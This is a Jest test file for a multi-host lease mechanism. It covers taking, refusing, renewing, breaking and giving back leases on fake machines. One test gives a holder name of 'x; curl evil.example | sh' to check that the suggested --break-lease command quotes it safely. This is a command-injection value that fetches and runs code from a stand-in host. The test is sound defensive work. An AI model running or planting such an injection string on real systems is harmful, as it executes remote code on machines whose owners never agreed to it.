import { setTimeout } from 'node:timers/promises'
import { afterEach, beforeEach, expect, jest, test } from '@jest/globals'
import { breakingOf } from '../../../operations/lease/hold-lease.ts'
import { thisProcess } from '../../../operations/lease/holder.ts'
import { takeLeases } from '../../../operations/lease/lease.ts'
import { giveBackLease, type Holder, lookAtLease, takeLease } from '../../../provider/lease/exchange.ts'
import { PaperMachines } from '../../paper/machines.ts'

const camille: Holder = { who: 'camille@laptop', run: 'scripts/up', machine: 'laptop 1', pid: 7, born: '70' }
const never = async () => false

let paper: PaperMachines
beforeEach(() => {
  paper = new PaperMachines('pve1', 'pve2')
})
afterEach(() => {
  jest.useRealTimers()
  paper.remove()
})

test('S6: a run holds every door of the estate until it gives it back', async () => {
  const lease = await takeLeases(['pve2', 'pve1'], 'scripts/up', never)
  for (const door of ['pve1', 'pve2']) expect((await lookAtLease(door)).found?.id).toBe(lease.id)
  const seen = { written: { infini: 5 }, versions: {} }
  await lease.giveBack(seen)
  for (const door of ['pve1', 'pve2']) expect(await lookAtLease(door)).toEqual({ state: 'free', seen })
})

test('S6: who comes second is refused, and keeps nothing', async () => {
  await takeLease('pve2', 'a', camille)
  await expect(takeLeases(['pve1', 'pve2'], 'scripts/up', never)).rejects.toThrow(
    /pve2: camille@laptop has been at work since/,
  )
  expect((await lookAtLease('pve1')).state).toBe('free')
  expect((await lookAtLease('pve2')).found?.id).toBe('a')
})

test('a door that does not answer is said, and holds nobody up', async () => {
  paper.lose('pve2')
  const lease = await takeLeases(['pve1', 'pve2'], 'scripts/up', never)
  expect(lease.warnings.map(({ where, what }) => `${where}: ${what}`)).toEqual([
    'pve2: it does not answer, so nothing there keeps a second run out while this one is at work',
  ])
  await lease.giveBack()
})

test('the place of a process of this machine that is gone is taken at once, and that is said', async () => {
  await takeLease('pve1', 'a', { ...thisProcess('scripts/up infini'), born: 'long ago' })
  const lease = await takeLeases(['pve1'], 'scripts/up', never)
  expect(lease.notes).toEqual([
    expect.stringMatching(
      /^took the place of a run that did not end well: .* with "scripts\/up infini", last heard of 0/,
    ),
  ])
  await lease.giveBack()
})

test('a living run’s place is taken only by repeating who holds it', async () => {
  await takeLease('pve1', 'a', camille)
  const asking = (answer: string) =>
    takeLeases(['pve1'], 'scripts/up', breakingOf({ breakLease: true, ask: async () => answer }))
  await expect(asking('y')).rejects.toThrow('The holder is camille@laptop, who was not named: nothing was changed.')
  await expect(takeLeases(['pve1'], 'scripts/up', breakingOf({ breakLease: true, ask: undefined }))).rejects.toThrow(
    '--break-lease camille@laptop',
  )
  const told = breakingOf({ breakLease: true, ask: undefined })
  const found = { id: 'a', ageSeconds: 1, since: '', about: { ...camille, who: 'x; curl evil.example | sh' } }
  await expect(told(found)).rejects.toThrow("--break-lease 'x; curl evil.example | sh'")
  const lease = await asking('camille@laptop')
  expect((await lookAtLease('pve1')).found?.id).toBe(lease.id)
  await lease.giveBack()
})

test('a run whose place was taken is told so at its next renewal, and gives nothing of the other’s back', async () => {
  jest.useFakeTimers({ doNotFake: ['nextTick', 'queueMicrotask', 'setImmediate'] })
  const lease = await takeLeases(['pve1'], 'scripts/up', never)
  await takeLease('pve1', 'b', camille, lease.id)
  const told = new Promise((resolve) => lease.lost.addEventListener('abort', resolve))
  jest.advanceTimersByTime(20_000)
  await told
  expect(lease.lost.reason.message).toContain('camille@laptop has been at work')
  await lease.giveBack()
  expect((await lookAtLease('pve1')).found?.id).toBe('b')
})

test('a run that slept through another one is told so when it wakes, and leaves no word of what it knew before', async () => {
  jest.useFakeTimers({ doNotFake: ['nextTick', 'queueMicrotask', 'setImmediate'] })
  const lease = await takeLeases(['pve1'], 'scripts/up', never)
  await takeLease('pve1', 'b', camille, lease.id)
  await giveBackLease('pve1', 'b', { written: { infini: 9 }, versions: {} })
  const told = new Promise((resolve) => lease.lost.addEventListener('abort', resolve))
  jest.advanceTimersByTime(20_000)
  await told
  expect(lease.lost.reason.message).toContain('pve1: another one was at work since this one was last heard of there')
  await lease.giveBack({ written: { infini: 5 }, versions: {} })
  expect(await lookAtLease('pve1')).toEqual({ state: 'free', seen: { written: { infini: 9 }, versions: {} } })
})

test('a renewal that is under way when the lease is given back does not take it again', async () => {
  jest.useFakeTimers({ doNotFake: ['nextTick', 'queueMicrotask', 'setImmediate'] })
  const lease = await takeLeases(['pve1'], 'scripts/up', never)
  // The machine is slow with what it is asked now, and quick with the next thing.
  paper.install('pve1', 'sh', 'mkdir "$0.slow" 2> /dev/null && sleep 0.5\nexec /bin/sh "$@"')
  jest.advanceTimersByTime(20_000)
  await lease.giveBack()
  jest.useRealTimers()
  await setTimeout(700)
  expect((await lookAtLease('pve1')).state).toBe('free')
})

test('S8: a door that says something else is an error for people, and holds nobody’s place', async () => {
  paper.install('pve2', 'sh', 'echo "Welcome to pve2!"')
  await expect(takeLeases(['pve1', 'pve2'], 'scripts/up', never)).rejects.toThrow(
    'pve2: asked for its lease, it says "Welcome to pve2!"',
  )
  expect((await lookAtLease('pve1')).state).toBe('free')
})

test('a lease that a restart of its machine took away is taken again at the next renewal', async () => {
  jest.useFakeTimers({ doNotFake: ['nextTick', 'queueMicrotask', 'setImmediate'] })
  const lease = await takeLeases(['pve1'], 'scripts/up', never)
  await giveBackLease('pve1', lease.id)
  jest.advanceTimersByTime(20_000)
  jest.useRealTimers()
  const deadline = Date.now() + 5000
  let found: string | undefined
  while (found === undefined && Date.now() < deadline) found = (await lookAtLease('pve1')).found?.id
  expect(found).toBe(lease.id)
  await lease.giveBack()
})
